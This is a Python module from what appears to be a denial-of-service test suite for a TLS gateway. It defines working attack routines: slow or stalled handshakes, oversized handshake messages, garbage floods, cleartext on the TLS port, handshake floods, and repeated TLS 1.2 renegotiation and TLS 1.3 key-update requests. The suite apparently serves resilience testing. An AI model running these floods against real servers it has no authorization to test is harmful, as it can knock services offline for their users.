# SPDX-License-Identifier: Apache-2.0
"""Attacks on the TLS listener itself: handshakes that do not end, and what is not TLS."""
import itertools
import os
import ssl
import subprocess
import time

from attack.engine import Report, crowd, flood, pump, repeat
from attack.registry import TLS, attack
from attack.h1_attacks import GET
from attack.frames import PREFACE
from attack.tls_records import DATA, Records
from attack.wire import Cut, Wire, tls_context


def client_hello():
    """A genuine ClientHello."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = tls_context("h2").wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@attack("tls-silent", "300 connections that say nothing", TLS, seconds=8, cut_within=6.5, bounded="5 s for a handshake")
def silent(target):
    return lambda: crowd(target, 300, lambda number: [], None)


@attack("tls-half-hello", "300 connections that stop in the ClientHello", TLS, seconds=8, cut_within=6.5, is_short=True, bounded="5 s for a handshake")
def half_hello(target):
    hello = client_hello()
    return lambda: crowd(target, 300, lambda number: [hello[:len(hello) // 2]], None)


@attack("tls-no-finish", "300 connections that do not answer the ServerHello", TLS, seconds=8, cut_within=6.5, bounded="5 s for a handshake")
def no_finish(target):
    hello = client_hello()
    return lambda: crowd(target, 300, lambda number: [hello], None)


@attack("tls-slow-hello", "100 ClientHellos at one byte a second", TLS, seconds=8, cut_within=6.5, bounded="5 s for a handshake")
def slow_hello(target):
    hello = client_hello()
    return lambda: crowd(target, 100, lambda number: [hello[at:at + 1] for at in range(len(hello))], None, interval=1)


@attack("tls-hello-endless", "a handshake message of 16 MB", TLS)
def hello_endless(target):
    start = b"\x16\x03\x01\x40\x00\x01\xff\xff\xff\x03\x03" + bytes(16384 - 6)
    return lambda: flood(target, itertools.chain([start], repeat(b"\x16\x03\x01\x40\x00" + bytes(16384))), None)


@attack("tls-garbage", "random bytes", TLS, is_short=True)
def garbage(target):
    blob = os.urandom(65536)
    return lambda: flood(target, repeat(blob), None)


@attack("tls-garbage-after-hello", "random bytes after a genuine ClientHello", TLS)
def garbage_after_hello(target):
    blob = client_hello() + os.urandom(65536)
    return lambda: flood(target, itertools.chain([blob], repeat(os.urandom(65536))), None)


@attack("tls-plain-http", "HTTP/1.1 in cleartext on the TLS port", TLS, is_short=True)
def plain_http(target):
    return lambda: flood(target, repeat(GET), None)


@attack("tls-plain-h2", "HTTP/2 in cleartext on the TLS port", TLS)
def plain_h2(target):
    return lambda: flood(target, repeat(PREFACE), None)


@attack("tls-empty-records", "application data before the handshake", TLS)
def early_records(target):
    return lambda: flood(target, repeat(b"\x17\x03\x03\x00\x00"), None)


@attack("tls-handshakes", "whole handshakes, one after the other, as fast as possible", TLS,
        bounded="the address has a limit of new connections")
def handshakes(target):
    def run():
        report, limit = Report(), time.monotonic() + target.seconds
        while time.monotonic() < limit:
            try:
                Wire(target, "h2", connect_seconds=1).close()
                report.connections += 1
            except OSError:
                report.refused += 1
        report.note = f"{report.connections} handshakes, {report.refused} refused"
        return report

    return run


def openssl_client(target, arguments, command):
    """A command of `openssl s_client`, again and again: R asks for a renegotiation. k sends new keys, and K asks
    for such of the gateway as well."""
    def run():
        report = Report()
        with subprocess.Popen(["openssl", "s_client", "-connect", f"{target.host}:{target.port}", "-bind", target.address(), *arguments],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as process:
            os.set_blocking(process.stdin.fileno(), False)
            os.set_blocking(process.stdout.fileno(), False)
            output, report.connections, limit = b"", 1, report.started + target.seconds
            while time.monotonic() < limit and process.poll() is None:
                try:
                    os.write(process.stdin.fileno(), command)  # each command must be a read of its own
                    report.sent += 1
                except (BlockingIOError, BrokenPipeError):
                    pass
                output = (output + (process.stdout.read() or b""))[-100000:]
                time.sleep(0.0005)
            if process.poll() is not None:
                report.cuts, report.cut = 1, time.monotonic()
            process.kill()
        report.note = f"{report.sent} commands" + (", no renegotiation" if b"no renegotiation" in output else "")
        return report

    return run


@attack("tls-renegotiation", "the client asks for a renegotiation of TLS 1.2, again and again", TLS)
def renegotiation(target):
    return openssl_client(target, ["-tls1_2", "-alpn", "http/1.1"], b"R\n")


@attack("tls-key-update", "the client asks for new keys of TLS 1.3, again and again", TLS)
def key_update(target):
    return openssl_client(target, ["-tls1_3", "-alpn", "http/1.1"], b"K\n")


def records_flood(target, make):
    """`make(records)` makes the records of one connection."""
    records = Records(target)
    blobs = [b"".join(make(records) for _ in range(1000)) for _ in range(20)]
    more = (make(records) for _ in itertools.count())

    def run():
        report = Report()
        try:
            pump(records.wire, itertools.chain(blobs, more), report.started + target.seconds)
        except Cut:
            pass
        report.add_wire(records.wire)
        return report

    return run


@attack("tls-key-update-silent", "new keys of TLS 1.3 that ask for no answer", TLS, is_short=True)
def key_update_silent(target):
    return records_flood(target, Records.key_update)


@attack("tls-empty-data", "records of TLS 1.3 without content", TLS)
def empty_data(target):
    return records_flood(target, lambda records: records.record(DATA, b""))
